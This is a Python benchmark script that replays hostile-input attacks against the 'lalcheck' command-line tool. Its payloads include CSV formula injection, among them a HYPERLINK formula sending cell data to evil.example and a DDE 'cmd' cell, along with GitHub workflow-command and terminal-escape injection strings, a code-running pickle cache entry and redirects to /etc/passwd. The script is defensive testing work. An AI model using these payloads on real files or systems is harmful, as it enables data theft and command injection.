"""Replay the hostile-input attacks of issue 16 against the ``lalcheck`` command line.

Each attack writes its files into a fresh folder, runs one or more ``lalcheck``
commands there (``python -m lalcheck`` with ``--source`` first on the import
path, so any checkout can be measured) and judges the outcome:

* **slow**: a command ran over its time or memory budget (it is killed at its
  time budget plus ten seconds);
* **crashed**: a traceback, an exit code outside 0/1/2, or death by a signal;
* **unsafe**: it finished, but did the wrong thing (an injected workflow
  command, a raw terminal escape, a replaced device, a modified foreign file,
  a silent pass, an unpickled cache entry, a misleading message …).

A few local HTTP servers stand in for hostile download sites (trickling
bytes, slow headers, redirect loops, redirects to ``file://``). Where the
checkout has ``db fetch --deadline``, fetch attacks pass ``--deadline 3``;
``--db URL`` attacks set ``LALCHECK_DEADLINE=3`` (ignored by older checkouts).

Usage::

    python benchmarks/hostile_inputs.py [--source DIR] [--only NAME] [--verbose]

Prints one line per attack and the totals ``tried / crashed / slow / unsafe``.
"""

from __future__ import annotations

import argparse
import contextlib
import ctypes
import http.server
import json
import os
import pickle
import re
import resource
import shutil
import signal
import sqlite3
import stat
import subprocess
import sys
import tempfile
import threading
import time
import unicodedata
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, ClassVar

import yaml

ROOT = Path(__file__).resolve().parent.parent
#: Capabilities that let root write read-only files: dropped for the read-only attacks.
_ROOT_OVERRIDES = (1, 2, 3)  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH, CAP_FOWNER
_PR_CAPBSET_DROP = 24
#: What a card number looks like in a decklist attack (BT01/008 is in the sample database).
KNOWN = "BT01/008"
GOOD_DECK = "data/decks/monolium-rush.yaml"
HUGE = "9" * 5000
HUGE_HEX = "0x" + "f" * 5000


@dataclass
class Run:
    """One finished (or killed) command."""

    args: tuple[str, ...]
    returncode: int
    stdout: str
    stderr: str
    seconds: float
    max_rss_mb: float
    killed: bool


@dataclass(frozen=True)
class Attack:
    """Files to write, commands to run, and what a safe outcome looks like."""

    name: str
    group: str
    commands: tuple[tuple[str, ...], ...]
    #: File contents, or a function that makes them (for the big ones).
    files: Mapping[str, str | bytes | Callable[[], bytes]] = field(default_factory=dict)
    setup: Callable[[Path], None] | None = None
    #: Runs after every command but the last.
    before_last: Callable[[Path], None] | None = None
    #: Returns why the outcome is unsafe, or None when it is fine.
    verdict: Callable[[list[Run], Path], str | None] | None = None
    limit_s: float = 10.0
    limit_mb: float | None = None
    env: Mapping[str, str] = field(default_factory=dict)
    #: Run the last command with a file size limit of 0 (a full disk).
    full_disk: bool = False
    #: Run the last command unable to write read-only files, even as root.
    read_only: bool = False
    stdin: bytes | None = None


# ---------------------------------------------------------------- data


def sample_db(source: Path) -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load(
        (source / "data" / "cards.yaml").read_text(encoding="utf-8")
    )
    return data


def db_yaml(source: Path, change: Callable[[dict[str, Any]], None], **replace: str) -> str:
    """The sample database changed by ``change``, as YAML; ``replace`` swaps placeholders."""
    data = sample_db(source)
    change(data)
    text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=1000)
    for placeholder, value in replace.items():
        text = text.replace(placeholder, value)
    return text


def db_json(source: Path, change: Callable[[dict[str, Any]], None], **replace: str) -> str:
    data = sample_db(source)
    change(data)
    text = json.dumps(data, ensure_ascii=False, indent=1)
    for placeholder, value in replace.items():
        text = text.replace(placeholder, value)
    return text


def first_card(**fields: Any) -> Callable[[dict[str, Any]], None]:
    def change(data: dict[str, Any]) -> None:
        data["cards"][0].update(fields)

    return change


def card_named(number: str, name: str) -> Callable[[dict[str, Any]], None]:
    def change(data: dict[str, Any]) -> None:
        for card in data["cards"]:
            if card["number"] == number:
                card["name"] = name
                card["names"] = {"en": name}

    return change


def db_named(name: str, version: str = "1") -> Callable[[dict[str, Any]], None]:
    def change(data: dict[str, Any]) -> None:
        data["name"] = name
        data["version"] = version

    return change


def regulation(source: Path, **replace: str) -> str:
    text = (source / "data" / "regulations" / "2017-09-01.yaml").read_text(encoding="utf-8")
    for old, new in replace.items():
        text = re.sub(rf"(?m)^{old}:.*$", f"{old}: {new}", text)
    return text


def big_database(megabytes: int) -> bytes:
    """A card database of about ``megabytes`` MB without a single alias."""
    head = "format: 1\ngame: luck-and-logic\nname: big\nversion: '1'\ncards:\n"
    card = (
        "- {{number: 'X{0:07d}', name: 'Card {0}', type: tactics, "
        "logic: {{kind: tactics}}, text: '{1}'}}\n"
    )
    filler = "x" * 60
    count = megabytes * 1_000_000 // len(card.format(0, filler))
    return (head + "".join(card.format(i, filler) for i in range(count))).encode()


def big_deck(entries: int) -> str:
    return "main:\n" + "".join(f"  X{i:05d}: 1\n" for i in range(entries))


def sqlite_file(path: Path, *, user_version: int = 0, application_id: int = 0) -> None:
    connection = sqlite3.connect(path)
    connection.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT)")
    connection.execute("INSERT INTO notes (body) VALUES ('another program''s data')")
    connection.execute(f"PRAGMA user_version = {user_version}")
    connection.execute(f"PRAGMA application_id = {application_id}")
    connection.commit()
    connection.close()


# ---------------------------------------------------------------- servers


class Hostile(http.server.BaseHTTPRequestHandler):
    """Download sites that misbehave on purpose."""

    served: ClassVar[dict[str, bytes]] = {}
    hits: ClassVar[dict[str, int]] = {}

    def log_message(self, format: str, *args: object) -> None:
        return

    def _send(self, body: bytes, status: int = 200) -> None:
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _trickle(self, data: bytes, pause: float) -> None:
        with contextlib.suppress(OSError):
            for byte in data:
                self.wfile.write(bytes([byte]))
                self.wfile.flush()
                time.sleep(pause)

    def do_GET(self) -> None:
        path = self.path.split("?")[0]
        count = self.hits[path] = self.hits.get(path, 0) + 1
        if path == "/trickle.yaml":
            self.send_response(200)
            self.send_header("Content-Length", "100000")
            self.end_headers()
            self._trickle(b"#" * 100_000, 0.25)
        elif path == "/slow-headers.yaml":
            with contextlib.suppress(OSError):
                self.wfile.write(b"HTTP/1.1 200 OK\r\nX-Slow: ")
                self._trickle(b"a" * 100_000, 0.25)
        elif path == "/stall.yaml" or (path == "/flaky.yaml" and count > 1):
            self.send_response(200)
            self.send_header("Content-Length", "1000")
            self.end_headers()
            self.wfile.write(b"format: 1\n")
            self.wfile.flush()
            time.sleep(30)
        elif path == "/loop.yaml":
            self.send_response(302)
            self.send_header("Location", "/loop.yaml")
            self.send_header("Content-Length", "0")
            self.end_headers()
        elif path in ("/to-file.yaml", "/to-ftp.yaml"):
            target = "file:///etc/passwd" if path == "/to-file.yaml" else "ftp://127.0.0.1/x"
            self.send_response(302)
            self.send_header("Location", target)
            self.send_header("Content-Length", "0")
            self.end_headers()
        elif path.lstrip("/") in self.served:
            self._send(self.served[path.lstrip("/")])
        else:
            self._send(b"not found", 404)


@contextlib.contextmanager
def hostile_server() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


# ---------------------------------------------------------------- running


def _child_limits(full_disk: bool, read_only: bool) -> Callable[[], None] | None:
    if not full_disk and not read_only:
        return None

    def apply() -> None:
        if full_disk:
            resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))
        if read_only and os.geteuid() == 0:
            libc = ctypes.CDLL(None, use_errno=True)
            for capability in _ROOT_OVERRIDES:
                libc.prctl(_PR_CAPBSET_DROP, capability, 0, 0, 0)

    return apply


def run_command(
    args: tuple[str, ...],
    work: Path,
    env: Mapping[str, str],
    timeout: float,
    *,
    stdin: bytes | None = None,
    full_disk: bool = False,
    read_only: bool = False,
) -> Run:
    """Run ``python -m lalcheck ARGS`` in ``work``; killed after ``timeout`` seconds.

    Output goes through pipes (a full disk must not stop the command from printing).
    """
    started = time.monotonic()
    process = subprocess.Popen(
        [sys.executable, "-m", "lalcheck", *args],
        cwd=work,
        env={**os.environ, **env},
        stdin=subprocess.PIPE if stdin is not None else subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        preexec_fn=_child_limits(full_disk, read_only),
        start_new_session=True,
    )
    chunks: dict[str, bytes] = {}

    def drain(name: str, stream: Any) -> None:
        chunks[name] = stream.read()

    readers = [
        threading.Thread(target=drain, args=(name, stream), daemon=True)
        for name, stream in (("out", process.stdout), ("err", process.stderr))
    ]
    for reader in readers:
        reader.start()
    if stdin is not None and process.stdin is not None:
        with contextlib.suppress(OSError):
            process.stdin.write(stdin)
            process.stdin.close()
    killed = False
    peak_kb = 0
    while True:
        peak_kb = max(peak_kb, _high_water_kb(process.pid))
        pid, status = os.waitpid(process.pid, os.WNOHANG)
        if pid:
            break
        if time.monotonic() - started > timeout:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
            killed = True
            pid, status = os.waitpid(process.pid, 0)
            break
        time.sleep(0.02)
    seconds = time.monotonic() - started
    process.returncode = os.waitstatus_to_exitcode(status)
    for reader in readers:
        reader.join(5)
    return Run(
        args,
        process.returncode,
        chunks.get("out", b"").decode("utf-8", "replace"),
        chunks.get("err", b"").decode("utf-8", "replace"),
        seconds,
        peak_kb / 1024,
        killed,
    )


def _high_water_kb(pid: int) -> int:
    """The peak resident memory of a running process since its exec (``VmHWM``), in KB.

    ``ru_maxrss`` would count the benchmark's own memory, copied into the child by fork.
    """
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return 0
    found = re.search(r"^VmHWM:\s+(\d+) kB", status, re.MULTILINE)
    return int(found[1]) if found else 0


def expand(args: tuple[str, ...], work: Path, url: str) -> tuple[str, ...]:
    """``{name}`` is a file in the work folder, ``{url}`` the hostile server."""
    return tuple(
        arg.replace("{url}", url)
        if "{url}" in arg
        else re.sub(r"\{([^{}]+)\}", lambda m: str(work / m[1]), arg)
        for arg in args
    )


@dataclass
class Outcome:
    attack: Attack
    runs: list[Run]
    slow: str | None = None
    crashed: str | None = None
    unsafe: str | None = None


def judge(attack: Attack, runs: list[Run], work: Path) -> Outcome:
    outcome = Outcome(attack, runs)
    for run in runs:
        if run.killed or run.seconds > attack.limit_s:
            outcome.slow = f"{' '.join(run.args[:2])} took {run.seconds:.1f} s"
        elif attack.limit_mb is not None and run.max_rss_mb > attack.limit_mb:
            outcome.slow = f"{' '.join(run.args[:2])} used {run.max_rss_mb:.0f} MB"
        if run.killed:
            return outcome
        if "Traceback (most recent call last)" in run.stderr:
            last = run.stderr.strip().splitlines()[-1][:120]
            outcome.crashed = f"traceback: {last}"
        elif run.returncode not in (0, 1, 2):
            outcome.crashed = f"exit {run.returncode}: {run.stderr.strip()[-120:]}"
    if outcome.crashed is None and attack.verdict is not None:
        outcome.unsafe = attack.verdict(runs, work)
    return outcome


def replay(attack: Attack, source: Path, url: str, deadline_option: bool) -> Outcome:
    work = Path(tempfile.mkdtemp(prefix="lalcheck-attack-", dir="/tmp"))
    work.chmod(0o755)
    try:
        for name, made in attack.files.items():
            target = work / name
            target.parent.mkdir(parents=True, exist_ok=True)
            content = made() if callable(made) else made
            if isinstance(content, bytes):
                target.write_bytes(content)
            else:
                target.write_text(content, encoding="utf-8")
        if attack.setup is not None:
            attack.setup(work)
        env = {
            "PYTHONPATH": str(source),
            "LALCHECK_CACHE_DIR": str(work / ".cache"),
            "LALCHECK_COLLECTION": str(work / "collection.sqlite3"),
            "LALCHECK_DEADLINE": "3",
            "PYTHONDONTWRITEBYTECODE": "1",
            **attack.env,
        }
        runs = []
        for index, command in enumerate(attack.commands):
            args = expand(command, work, url)
            if deadline_option and args[:2] == ("db", "fetch"):
                args += ("--deadline", "3")
            last = index == len(attack.commands) - 1
            if last and attack.before_last is not None:
                attack.before_last(work)
            runs.append(
                run_command(
                    args,
                    work,
                    env,
                    attack.limit_s + 10,
                    stdin=attack.stdin,
                    full_disk=attack.full_disk and last,
                    read_only=attack.read_only and last,
                )
            )
        return judge(attack, runs, work)
    except Exception as error:  # a broken attack is reported, not fatal to the others
        outcome = Outcome(attack, [])
        outcome.unsafe = f"the attack itself failed: {error!r}"
        return outcome
    finally:
        shutil.rmtree(work, ignore_errors=True)


# ---------------------------------------------------------------- verdicts


def last(runs: list[Run]) -> Run:
    return runs[-1]


_LINE = re.compile(r"(:\d+\b|line \d+)")


def names_line(runs: list[Run], work: Path) -> str | None:
    run = last(runs)
    return None if _LINE.search(run.stdout + run.stderr) else "no line is named"


def refused(*words: str) -> Callable[[list[Run], Path], str | None]:
    """The last command must exit 2 with a message holding each of ``words``."""

    def verdict(runs: list[Run], work: Path) -> str | None:
        run = last(runs)
        text = (run.stdout + run.stderr).casefold()
        if run.returncode != 2:
            return f"exit {run.returncode}, expected 2"
        missing = [word for word in words if word.casefold() not in text]
        return f"the message does not say {missing}: {text[:160]!r}" if missing else None

    return verdict


def says(*words: str, codes: tuple[int, ...] = (1, 2)) -> Callable[[list[Run], Path], str | None]:
    """The last command must exit with one of ``codes`` and mention each of ``words``."""

    def verdict(runs: list[Run], work: Path) -> str | None:
        run = last(runs)
        text = (run.stdout + run.stderr).casefold()
        if run.returncode not in codes:
            return f"exit {run.returncode}, expected one of {codes}"
        missing = [word for word in words if word.casefold() not in text]
        return f"the output does not say {missing}: {text[:200]!r}" if missing else None

    return verdict


def never_says(*words: str) -> Callable[[list[Run], Path], str | None]:
    def verdict(runs: list[Run], work: Path) -> str | None:
        text = (last(runs).stdout + last(runs).stderr).casefold()
        found = [word for word in words if word.casefold() in text]
        return f"the output says {found}" if found else None

    return verdict


def both(
    *verdicts: Callable[[list[Run], Path], str | None],
) -> Callable[[list[Run], Path], str | None]:
    def verdict(runs: list[Run], work: Path) -> str | None:
        for each in verdicts:
            problem = each(runs, work)
            if problem:
                return problem
        return None

    return verdict


def succeeds(runs: list[Run], work: Path) -> str | None:
    run = last(runs)
    return None if run.returncode == 0 else f"exit {run.returncode}: {run.stderr.strip()[:160]}"


_RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def no_raw_controls(runs: list[Run], work: Path) -> str | None:
    for run in runs:
        found = _RAW.search(run.stdout) or _RAW.search(run.stderr)
        if found:
            return f"{' '.join(run.args[:2])} printed a raw {found[0]!r}"
    return None


_ANNOTATION = re.compile(r"::(error|warning|notice) (?P<props>[^:]*)::(?P<message>.*)")


def github_clean(expected_files: tuple[str, ...]) -> Callable[[list[Run], Path], str | None]:
    """Every ``::`` line is an annotation of one of the checked files; no raw CR."""

    def verdict(runs: list[Run], work: Path) -> str | None:
        run = last(runs)
        if "\r" in run.stdout:
            return "a raw carriage return in the output"
        for line in run.stdout.split("\n"):
            if not line.startswith("::"):
                continue
            match = _ANNOTATION.fullmatch(line)
            if match is None:
                return f"an injected workflow command: {line[:100]!r}"
            props = dict(part.split("=", 1) for part in match["props"].split(",") if "=" in part)
            decoded = re.sub(r"%([0-9A-F]{2})", lambda m: chr(int(m[1], 16)), props.get("file", ""))
            if not any(decoded.endswith(name) for name in expected_files):
                return f"an annotation of a file that was not checked: {line[:100]!r}"
        return None

    return verdict


def unchanged(name: str, expected: bytes | None = None) -> Callable[[list[Run], Path], str | None]:
    def verdict(runs: list[Run], work: Path) -> str | None:
        path = work / name
        data = path.read_bytes() if path.exists() else None
        if expected is not None and data != expected:
            return f"{name} was changed ({len(data or b'')} bytes)"
        side = [p.name for p in work.glob(f"{name}-*")]
        return f"{name} got side files {side}" if side else None

    return verdict


def still_special(
    name: str, kind: Callable[[int], bool]
) -> Callable[[list[Run], Path], str | None]:
    def verdict(runs: list[Run], work: Path) -> str | None:
        mode = os.lstat(work / name).st_mode
        return None if kind(mode) else f"{name} was replaced by a regular file"

    return verdict


def csv_cells_safe(runs: list[Run], work: Path) -> str | None:
    import csv
    import io

    writers = (("collection", "export"), ("collection", "list"), ("collection", "missing"))
    for run in runs:
        if run.args[:2] not in writers:
            continue
        for row in csv.reader(io.StringIO(run.stdout)):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    return f"{' '.join(run.args[:2])} wrote the cell {cell[:40]!r}"
    return None


def round_trips(runs: list[Run], work: Path) -> str | None:
    exports = [
        run.stdout
        for run in runs
        if run.args[:2] == ("collection", "export") and "-o" not in run.args
    ]
    if len(exports) >= 2 and exports[0] != exports[-1]:
        return "export -> import -> export changed the rows"
    return None


def no_marker(runs: list[Run], work: Path) -> str | None:
    return "the cache entry ran code" if (work / "pwned").exists() else None


# ---------------------------------------------------------------- attacks


def make_fifo(*names: str) -> Callable[[Path], None]:
    def setup(work: Path) -> None:
        for name in names:
            (work / name).parent.mkdir(parents=True, exist_ok=True)
            os.mkfifo(work / name)

    return setup


def setup_all(*steps: Callable[[Path], None]) -> Callable[[Path], None]:
    def setup(work: Path) -> None:
        for step in steps:
            step(work)

    return setup


def copy_good_deck(source: Path, name: str) -> Callable[[Path], None]:
    def setup(work: Path) -> None:
        (work / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(source / GOOD_DECK, work / name)

    return setup


def symlink(name: str, target: str) -> Callable[[Path], None]:
    def setup(work: Path) -> None:
        os.symlink(target, work / name)

    return setup


def char_device(name: str, minor: int) -> Callable[[Path], None]:
    def setup(work: Path) -> None:
        os.mknod(work / name, stat.S_IFCHR | 0o666, os.makedev(1, minor))

    return setup


def plant_pickle(source: Path) -> Callable[[Path], None]:
    import hashlib

    class Payload:
        def __init__(self, marker: Path) -> None:
            self.marker = marker

        def __reduce__(self) -> tuple[Any, ...]:
            return (open, (str(self.marker), "w"))

    def setup(work: Path) -> None:
        raw = (source / "data" / "cards.yaml").read_bytes()
        digest = hashlib.sha256(raw).hexdigest()
        version = re.search(
            r'__version__ = "([^"]+)"', (source / "lalcheck" / "__init__.py").read_text()
        )
        folder = work / ".cache" / "databases"
        folder.mkdir(parents=True)
        payload = pickle.dumps(Payload(work / "pwned"))
        for suffix in ("pickle", "json"):
            (folder / f"{digest}-{version[1] if version else '0'}.{suffix}").write_bytes(payload)

    return setup


def lock_down(name: str) -> Callable[[Path], None]:
    """Make the collection and its folder read-only."""

    def setup(work: Path) -> None:
        (work / name).chmod(0o444)
        work.chmod(0o555)

    return setup


def attacks(source: Path) -> list[Attack]:
    """Every attack class of issue 16."""
    good = str(source / GOOD_DECK)
    nfd = unicodedata.normalize("NFD", "朝の鐘 カズハ")
    colons = ":" * 4000
    found: list[Attack] = []

    def add(attack: Attack) -> None:
        found.append(attack)

    # Hangs and runaway cost: regular expressions.
    for name, line in (
        ("colons", colons),
        ("colons-between-letters", "a" + colons + "b"),
        ("colons-after-header", "Main" + colons + "x"),
        ("spaces-between-letters", "a" + " " * 250_000 + "b"),
        ("tabs-then-count", "a" + "\t" * 200_000 + "4x"),
        ("x-runs", "4" + " x" * 100_000),
        ("digit-space-runs", "1 " * 100_000 + "a"),
        ("parenthesised-counts", "Main" + "(1" * 100_000),
        ("star-runs", "a" + " *" * 100_000 + "b"),
        ("comment-runs", "a" + " #" * 100_000),
    ):
        add(Attack(f"import-{name}", "regex", (("import", "{list.txt}"),), {"list.txt": line}))

    # Hangs: FIFOs and special files.
    add(
        Attack(
            "fifo-deck",
            "fifo",
            (("check", "{pipe.yaml}"),),
            setup=make_fifo("pipe.yaml"),
            verdict=says("pipe.yaml", "regular"),
        )
    )
    add(
        Attack(
            "fifo-db",
            "fifo",
            (("db", "info", "--db", "{pipe.yaml}"),),
            setup=make_fifo("pipe.yaml"),
            verdict=refused("regular"),
        )
    )
    add(
        Attack(
            "fifo-decklist",
            "fifo",
            (("import", "{pipe.txt}"),),
            setup=make_fifo("pipe.txt"),
            verdict=refused("regular"),
        )
    )
    add(
        Attack(
            "fifo-collection-csv",
            "fifo",
            (("collection", "import", "{pipe.csv}"),),
            setup=make_fifo("pipe.csv"),
            verdict=refused("regular"),
        )
    )
    add(
        Attack(
            "fifo-in-folder",
            "fifo",
            (("check", "{decks}"),),
            setup=setup_all(
                copy_good_deck(source, "decks/good.yaml"), make_fifo("decks/pipe.yaml")
            ),
            verdict=says("pipe.yaml"),
        )
    )
    add(
        Attack(
            "dangling-link-in-folder",
            "fifo",
            (("check", "{decks}"),),
            setup=setup_all(
                copy_good_deck(source, "decks/good.yaml"),
                symlink("decks/gone.yaml", "nowhere.yaml"),
            ),
            verdict=says("gone.yaml"),
        )
    )
    add(
        Attack(
            "link-loop-in-folder",
            "fifo",
            (("check", "{decks}"),),
            setup=setup_all(copy_good_deck(source, "decks/good.yaml"), symlink("decks/loop", ".")),
            verdict=says("loop", codes=(0, 1)),
        )
    )

    # Hangs: slow servers.
    add(
        Attack(
            "fetch-trickle",
            "download",
            (("db", "fetch", "{url}/trickle.yaml"),),
            verdict=refused("trickle.yaml"),
        )
    )
    add(
        Attack(
            "fetch-slow-headers",
            "download",
            (("db", "fetch", "{url}/slow-headers.yaml"),),
            verdict=refused("slow-headers.yaml"),
        )
    )
    add(
        Attack(
            "db-url-trickle",
            "download",
            (("db", "info", "--db", "{url}/trickle.yaml"),),
            verdict=refused("trickle.yaml"),
        )
    )

    # Runaway cost: size limits and suggestions.
    add(
        Attack(
            "database-50mb",
            "size",
            (("db", "validate", "{big.yaml}"),),
            {"big.yaml": lambda: big_database(50)},
            limit_s=3,
            limit_mb=200,
            verdict=both(refused("size"), never_says("alias")),
        )
    )
    add(
        Attack(
            "deck-21000-entries",
            "size",
            (("check", "{big-deck.yaml}"),),
            {"big-deck.yaml": big_deck(21_000)},
            limit_s=3,
            limit_mb=200,
            verdict=both(says("big-deck.yaml"), never_says("alias")),
        )
    )
    add(
        Attack(
            "import-19900-unknown-cards",
            "size",
            (("import", "{unknown.txt}"),),
            {"unknown.txt": "".join(f"1 Q{i:05d}\n" for i in range(19_900))},
            verdict=says("unknown"),
        )
    )
    add(
        Attack(
            "check-9000-unknown-cards",
            "size",
            (("check", "{unknown.yaml}"),),
            {"unknown.yaml": "main:\n" + "".join(f"  Q{i:05d}: 1\n" for i in range(9_000))},
            verdict=says("unknown"),
        )
    )

    # Tracebacks: numbers beyond Python's 4,300-digit conversion limit.
    for name, value in (("decimal", HUGE), ("hex", HUGE_HEX)):
        add(
            Attack(
                f"deck-count-{name}",
                "numbers",
                (("check", "{deck.yaml}"),),
                {"deck.yaml": f"main:\n  {KNOWN}: {value}\n"},
                verdict=both(says(), names_line),
            )
        )
        add(
            Attack(
                f"regulation-{name}",
                "numbers",
                (("check", "--regulation", "{reg.yaml}", good),),
                {"reg.yaml": regulation(source, main_size=value)},
                verdict=says("reg.yaml"),
            )
        )
        add(
            Attack(
                f"database-yaml-{name}",
                "numbers",
                (("db", "validate", "{db.yaml}"),),
                {"db.yaml": db_yaml(source, first_card(power=777777), **{"777777": value})},
                verdict=both(refused(), names_line),
            )
        )
        add(
            Attack(
                f"cards-show-{name}",
                "numbers",
                (("cards", "show", "BT01/001", "--db", "{db.yaml}"),),
                {"db.yaml": db_yaml(source, first_card(power=777777), **{"777777": value})},
                verdict=both(refused(), names_line),
            )
        )
        add(
            Attack(
                f"opponent-gates-{name}",
                "numbers",
                (("goldfish", good, "--games", "1", "--opponent-gates", "{gates.yaml}"),),
                {"gates.yaml": f"gates:\n  SD02-G001: {value}\n"},
                verdict=says("gates.yaml"),
            )
        )
    add(
        Attack(
            "database-json-decimal",
            "numbers",
            (("db", "validate", "{db.json}"),),
            {"db.json": db_json(source, first_card(power=777777), **{"777777": HUGE})},
            verdict=both(refused(), names_line),
        )
    )
    add(
        Attack(
            "db-url-json-decimal",
            "numbers",
            (("check", "--db", "{url}/bigint.json", good),),
            verdict=both(refused(), names_line),
        )
    )
    add(
        Attack(
            "import-count-decimal",
            "numbers",
            (("import", "{list.txt}"),),
            {"list.txt": f"{HUGE} {KNOWN}\n"},
            verdict=both(says(codes=(1,)), names_line),
        )
    )
    add(
        Attack(
            "collection-import-decimal",
            "numbers",
            (("collection", "import", "{rows.csv}"),),
            {"rows.csv": f"number,quantity\n{KNOWN},{HUGE}\n"},
            verdict=says("rows.csv:2"),
        )
    )
    add(
        Attack(
            "db-import-decimal",
            "numbers",
            (("db", "import", "{cards.csv}", "-o", "{o.yaml}"),),
            {"cards.csv": "CARD NO.,NAME,TYPE,POWER\nT1/001,A,TACTICS," + HUGE + "\n"},
            verdict=says("cards.csv:2"),
        )
    )

    # Tracebacks: explicit YAML tags.
    for name, value in (
        ("timestamp", "!!timestamp x"),
        ("bool", "!!bool x"),
        ("empty-float", "!!float"),
        ("int", "!!int 0b"),
        ("binary", "!!binary x"),
    ):
        add(
            Attack(
                f"deck-tag-{name}",
                "tags",
                (("check", "{deck.yaml}"),),
                {"deck.yaml": f"main:\n  {KNOWN}: {value}\n"},
                verdict=both(says(), names_line),
            )
        )
        add(
            Attack(
                f"database-tag-{name}",
                "tags",
                (("db", "validate", "{db.yaml}"),),
                {"db.yaml": db_yaml(source, first_card(power=777777), **{"777777": value})},
                verdict=both(refused(), names_line),
            )
        )
    add(
        Attack(
            "regulation-tag",
            "tags",
            (("check", "--regulation", "{reg.yaml}", good),),
            {"reg.yaml": regulation(source, main_size="!!float")},
            verdict=says("reg.yaml"),
        )
    )

    # A crash must not hide the other decks.
    add(
        Attack(
            "crash-beside-good-deck",
            "crash",
            (("check", good, "{deck.yaml}"),),
            {"deck.yaml": f"main:\n  {KNOWN}: {HUGE_HEX}\n"},
            verdict=says("monolium-rush.yaml", "deck.yaml"),
        )
    )

    # Output injection: GitHub workflow commands.
    payload = "x\n::error file=spoof.yaml,line=1::spoofed\r::add-mask::secret %0A::"
    add(
        Attack(
            "github-database-name",
            "github",
            (("check", "--format", "github", "--db", "{db.yaml}", "{deck.yaml}"),),
            {
                "db.yaml": db_yaml(source, db_named(payload, payload)),
                "deck.yaml": f"main:\n  {KNOWN}: 5\n",
            },
            verdict=github_clean(("deck.yaml",)),
        )
    )
    add(
        Attack(
            "github-card-name",
            "github",
            (("check", "--format", "github", "--db", "{db.yaml}", "{deck.yaml}"),),
            {
                "db.yaml": db_yaml(source, card_named(KNOWN, payload)),
                "deck.yaml": f"main:\n  {KNOWN}: 5\n",
            },
            verdict=github_clean(("deck.yaml",)),
        )
    )
    add(
        Attack(
            "github-deck-path",
            "github",
            (("check", "--format", "github", "{d,line=1::x%0A.yaml}"),),
            {"d,line=1::x%0A.yaml": f"main:\n  {KNOWN}: 5\n"},
            verdict=github_clean(("d,line=1::x%0A.yaml",)),
        )
    )
    add(
        Attack(
            "github-missing-path",
            "github",
            (("check", "--format", "github", "gone\n::error file=spoof.yaml::x.yaml"),),
            verdict=github_clean(("x.yaml",)),
        )
    )
    add(
        Attack(
            "github-card-reference",
            "github",
            (("check", "--format", "github", "{deck.yaml}"),),
            {"deck.yaml": 'main:\n  "A\\n::error file=spoof.yaml::x\\r%": 1\n'},
            verdict=github_clean(("deck.yaml",)),
        )
    )

    # Output injection: terminal escapes.
    escape = "\x1b]0;owned\x07\x1b[2J\u202eevil\r"
    add(
        Attack(
            "terminal-deck-name",
            "terminal",
            (("check", "{deck.yaml}"),),
            {"deck.yaml": yaml.safe_dump({"name": escape, "main": {KNOWN: 1}})},
            verdict=no_raw_controls,
        )
    )
    add(
        Attack(
            "terminal-card-name",
            "terminal",
            (
                ("cards", "show", KNOWN, "--db", "{db.yaml}"),
                ("check", "--db", "{db.yaml}", "{deck.yaml}"),
            ),
            {
                "db.yaml": db_yaml(source, card_named(KNOWN, escape)),
                "deck.yaml": f"main:\n  {KNOWN}: 5\n",
            },
            verdict=no_raw_controls,
        )
    )
    add(
        Attack(
            "terminal-database-name",
            "terminal",
            (("db", "info", "--db", "{db.yaml}"), ("check", "--db", "{db.yaml}", good)),
            {"db.yaml": db_yaml(source, db_named(escape, escape))},
            verdict=no_raw_controls,
        )
    )
    add(
        Attack(
            "terminal-collection-note",
            "terminal",
            (("collection", "add", KNOWN, "--note", escape), ("collection", "list")),
            verdict=no_raw_controls,
        )
    )

    # Output injection: CSV formulas.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    add(
        Attack(
            "csv-export-formula",
            "csv",
            (
                ("collection", "add", KNOWN, "--note", formula),
                ("collection", "add", "BT01/001", "--note", "@SUM(1+1)"),
                ("collection", "add", "BT01/002", "--note", "'=already quoted"),
                ("collection", "export", "-o", "{rows.csv}"),
                ("collection", "export"),
                ("collection", "import", "{rows.csv}", "--collection", "{copy.sqlite3}"),
                ("collection", "export", "--collection", "{copy.sqlite3}"),
            ),
            verdict=both(csv_cells_safe, round_trips),
        )
    )
    add(
        Attack(
            "csv-list-formula",
            "csv",
            (
                ("collection", "add", KNOWN, "--note", "+cmd|' /C calc'!A0"),
                ("collection", "list", "--format", "csv"),
            ),
            verdict=csv_cells_safe,
        )
    )
    add(
        Attack(
            "csv-missing-formula",
            "csv",
            (("collection", "missing", "--format", "csv", "--db", "{db.yaml}", good),),
            {"db.yaml": db_yaml(source, card_named("SD02-001", "-2+3"))},
            verdict=csv_cells_safe,
        )
    )

    # import writes a deck file that lalcheck must read back.
    add(
        Attack(
            "import-control-characters",
            "readback",
            (
                ("import", "--db", "{db.yaml}", "{list.txt}", "-o", "{deck.yaml}"),
                ("check", "--db", "{db.yaml}", "{deck.yaml}"),
            ),
            {
                "db.yaml": db_yaml(source, card_named(KNOWN, "Bad\x1bName\x7f")),
                "list.txt": f"# name: N\x1b\n4 {KNOWN}\n",
            },
            verdict=never_says("invalid yaml", "unacceptable", "not allowed"),
        )
    )

    # Files that are not ours: read-only collections.
    seed = ("collection", "add", KNOWN, "3")
    for command in (("list",), ("stats",), ("export",), ("missing", good), ("backup", "-")):
        add(
            Attack(
